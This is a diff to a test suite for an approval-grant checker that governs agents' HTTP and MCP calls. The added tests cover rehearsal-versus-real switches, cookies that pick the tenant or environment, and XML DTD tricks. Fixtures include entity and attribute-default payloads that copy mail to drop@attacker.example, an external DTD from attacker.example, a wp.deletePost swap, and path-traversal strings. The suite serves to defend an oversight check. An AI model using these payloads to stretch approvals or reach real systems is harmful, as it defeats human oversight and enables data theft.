@@ -2002,7 +2002,7 @@ t.test('a path grant covers a path as servers route it: a wildcard never stands 
   t.teardown(() => queue.close());
   const del = (path: string): RequestDescription => call16('DELETE', `https://api.example${path}`, '', '');
   // A path servers read as other segments (forwarded so only where the decision sets `raw_path`) is covered by its own exact pattern only.
-  for (const [path, covered] of [['/items/6', true], ['/items/6.', true], ['/items/', false], ['/items/...', false], ['/items/%20', false], ['/items/.%20.', false], ['/items/..%2Fadmin', false], ['/items/5;x=1', true], ['/items/;x=1', false], ['/items/..;/admin', false], ['/items/%252e%252e', false]] as const) {
+  for (const [path, covered] of [['/items/6', true], ['/items/6.', true], ['/items/', false], ['/items/...', false], ['/items/%20', false], ['/items/.%20.', false], ['/items/..%2Fadmin', false], ['/items/5;x=7', true], ['/items/;x=1', false], ['/items/..;/admin', false], ['/items/%252e%252e', false]] as const) {
     t.equal(await grantedFor(queue, del('/items/5'), del(path), '/items/*'), covered, `/items/* ${covered ? 'covers' : 'does not cover'} ${path}`);
   }
   t.equal(await grantedFor(queue, del('/items/5/'), del('/items/'), '/items/**'), false, '/items/** does not cover /items/ (the collection)');
@@ -2072,6 +2072,71 @@ t.test('a switch or a mode is part of what a grant covers, whatever its name (si
   }), { numRuns: 12, examples: [[pairs[0]!, 'query', false], [pairs[4]!, 'json', false], [pairs[6]!, 'mcp', false], [pairs[1]!, 'form', false], [pairs[1]!, 'header', false], [pairs[0]!, 'json', true]] });
 });
 
+// A switch spelled as a number or as `yes`/`on` under a name no list holds (`?live=1`, `go: 1`:
+// Go's ParseBool, Rails and pydantic read them as true), and a mode under a name that says so with a
+// value no list holds (`mode=real`, `env: prod`, `X-Run-Mode`): a grant for the rehearsal covered
+// the real run (left open by the sixteenth pass).
+t.test('a switch spelled 0/1, yes/no or on/off, and a mode by its name, are part of what a grant covers (seventeenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const pairs: Array<[string, unknown, unknown]> = [['live', '0', '1'], ['go', '0', '1'], ['real', 'no', 'yes'], ['execute', 'off', 'on'], ['mode', 'safe', 'real'], ['env', 'qa', 'prd'], ['runMode', 'rehearse', 'full'], ['target_stage', 'blue', 'green']];
+  const where = ['query', 'json', 'form', 'mcp', 'header'] as const;
+  const shape = (place: (typeof where)[number], name: string, v: unknown | undefined): RequestDescription => {
+    const args = v === undefined ? {} : { [name]: v };
+    return place === 'header' ? call16('POST', 'https://ops.example/api/deploy', '{"service":"web"}', 'application/json', v === undefined ? [] : [[`X-${name}`, String(v)]])
+      : place === 'query' ? call16('POST', `https://ops.example/api/deploy${v === undefined ? '' : `?${name}=${String(v)}`}`, '{"service":"web"}')
+        : place === 'form' ? call16('POST', 'https://ops.example/api/deploy', `service=web${v === undefined ? '' : `&${name}=${String(v)}`}`, 'application/x-www-form-urlencoded')
+          : place === 'json' ? call16('POST', 'https://ops.example/api/deploy', JSON.stringify({ service: 'web', ...args }))
+            : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'deploy', arguments: { service: 'web', ...args } } }));
+  };
+  // later: the same value (covered), the other one, or the switch added where the approved call had none.
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...pairs), fc.constantFrom(...where), fc.constantFrom('same', 'other', 'added'), async ([name, rehearsal, real], place, later) => {
+    const covered = await grantedFor(queue, shape(place, name, later === 'added' ? undefined : rehearsal), shape(place, name, later === 'same' ? rehearsal : real));
+    return covered === (later === 'same');
+  }), { numRuns: 12, examples: [[pairs[0]!, 'query', 'other'], [pairs[1]!, 'json', 'added'], [pairs[4]!, 'json', 'other'], [pairs[2]!, 'form', 'other'], [pairs[6]!, 'header', 'other'], [pairs[5]!, 'mcp', 'other'], [pairs[0]!, 'query', 'same']] });
+  // Controls: headers every client sends with 0/1 (`DNT`, `Content-Length`), a browser's Sec-Fetch-Mode, and content that varies stay covered.
+  const note = (text: string, n: number, headers: Array<[string, string]>): RequestDescription => call16('POST', `https://ops.example/api/notes?page=${n}`, JSON.stringify({ text, a: n, stream_id: String(n), retry_count: String(n - 1) }), 'application/json', headers);
+  t.ok(await grantedFor(queue, note('a', 1, [['DNT', '1'], ['Sec-Fetch-Mode', 'cors'], ['X-Stainless-Retry-Count', '0']]), note('bb', 2, [['DNT', '0'], ['Sec-Fetch-Mode', 'no-cors'], ['X-Stainless-Retry-Count', '1']])), 'other text, another JSON number (1 then 2), page, id and retry count, and standard headers are still covered');
+});
+
+// An XML body's DTD changes what XML parsers read: Python's ElementTree and xmlrpc.server (expat)
+// expand internal entities to text or markup and apply `<!ATTLIST>` defaults, while Airlock's reader
+// leaves `&x;` as written. A grant for a message to alice (a REST XML call, SOAP, XML-RPC) covered the
+// same text with a DTD making the server read a copy to the attacker, or `wp.deletePost` for the
+// approved method. Python is the oracle of what the server reads.
+t.test('an XML body with a DTD reads two ways: no grant covers it (seventeenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const rest = '<message><to>alice@corp.example</to><text>hi</text></message>';
+  const rpc = '<methodCall><methodName>wp.getPosts</methodName><params/></methodCall>';
+  const forms: Array<[string, string, string, string]> = [
+    // [name, url, approved, later]
+    ['an entity expanding to markup', 'https://mail.example/api/send', rest, '<!DOCTYPE message [<!ENTITY x "<cc>drop@attacker.example</cc>">]><message><to>alice@corp.example</to>&x;<text>hi</text></message>'],
+    ['a default attribute', 'https://mail.example/api/send', rest, '<!DOCTYPE message [<!ATTLIST message cc CDATA "drop@attacker.example">]><message><to>alice@corp.example</to><text>hi</text></message>'],
+    ['an entity in a SOAP body', 'https://erp.example/soap', '<Envelope><Body><Send><To>alice</To></Send></Body></Envelope>', '<!DOCTYPE Envelope [<!ENTITY x "<Bcc>drop@attacker.example</Bcc>">]><Envelope><Body><Send><To>alice</To>&x;</Send></Body></Envelope>'],
+    ['the method by entity (XML-RPC)', 'https://blog.example.org/xmlrpc.php', '<!DOCTYPE m [<!ENTITY n "wp.getPosts">]><methodCall><methodName>&n;</methodName><params/></methodCall>', '<!DOCTYPE m [<!ENTITY n "wp.deletePost">]><methodCall><methodName>&n;</methodName><params/></methodCall>'],
+    ['an external DTD', 'https://blog.example.org/xmlrpc.php', rpc, `<?xml version="1.0"?><!DOCTYPE methodCall SYSTEM "https://attacker.example/m.dtd">${rpc}`],
+  ];
+  const oracle = JSON.parse(execFileSync('python3', ['-c', `
+import json, sys, xml.etree.ElementTree as ET
+print(json.dumps([sorted({(e.tag, (e.text or '').strip()) for e in ET.fromstring(b).iter()} | {(k, v) for e in ET.fromstring(b).iter() for k, v in e.attrib.items()}) for b in json.load(sys.stdin)]))
+`], { input: JSON.stringify(forms.slice(0, 3).map((f) => f[3])) }).toString()) as Array<Array<[string, string]>>;
+  for (const read of oracle) t.ok(read.some(([k, v]) => /cc$/i.test(k) && v === 'drop@attacker.example'), `Python reads the copy to the attacker (${JSON.stringify(read)})`);
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...forms), fc.constantFrom('application/xml', 'text/xml', 'text/plain', ''), async ([, url, approved, later], type) => {
+    const first = call16('POST', url, approved, type);
+    const second = call16('POST', url, later, type);
+    // An approved body with a DTD gives no grant either.
+    if (first.request.body.ambiguous) return !(await grantedFor(queue, first, first).catch(() => false));
+    return !(await grantedFor(queue, first, second));
+  }), { numRuns: 3, examples: [[forms[0]!, 'application/xml'], [forms[1]!, 'text/xml'], [forms[2]!, 'text/xml'], [forms[3]!, 'text/plain'], [forms[4]!, '']] });
+  for (const [name, url, , later] of forms) t.ok(call16('POST', url, later, 'text/xml').request.body.ambiguous_reasons?.some((r) => r.code === 'xml_dtd'), `${name}: the body is ambiguous (xml_dtd)`);
+  // Controls: the same XML without a DTD is covered; an HTML page's doctype is no DTD.
+  t.ok(await grantedFor(queue, call16('POST', 'https://mail.example/api/send', rest, 'application/xml'), call16('POST', 'https://mail.example/api/send', rest.replace('hi', 'hello'), 'application/xml')), 'XML without a DTD: the same recipient is covered');
+  for (const [page, type] of [['<!DOCTYPE html><p>hi</p>', 'text/html'], ['<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>', 'text/html'], ['<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>', 'image/svg+xml']]) {
+    t.notOk(call16('POST', 'https://cms.example/pages', page!, type).request.body.ambiguous, `a doctype naming no DTD an agent chose is no ambiguity: ${page!.slice(0, 40)}`);
+  }
+});
+
 // Apps choose the organization, tenant or workspace (or a rehearsal) by cookie too (`current_org`,
 // `tenant_id`, `dry_run`), and the description keeps cookies redacted: a grant for a report created
 // in the team's organization covered the same call with `Cookie: org=evil`.
@@ -2084,6 +2149,10 @@ t.test('a cookie naming the organization, tenant or a rehearsal is part of what 
     ['another tenant', 'current_tenant=acme', 'current_tenant=bigcorp', false],
     ['the rehearsal flag dropped', 'dry_run=1; theme=dark', 'theme=dark', false],
     ['the same organization, another analytics cookie', 'org=acme; _ga=GA1.1', 'org=acme; _ga=GA1.2', true],
+    // (Seventeenth pass) the mode or system by cookie.
+    ['another mode', 'mode=rehearsal', 'mode=real', false],
+    ['another environment', 'app_env=staging', 'app_env=prod', false],
+    ['live switched on', 'live=0', 'live=1', false],
   ];
   for (const [name, first, later, covered] of cases) t.equal(await grantedFor(queue, report(first), report(later)), covered, `${name}: ${covered ? 'covered' : 'not covered'}`);
 });
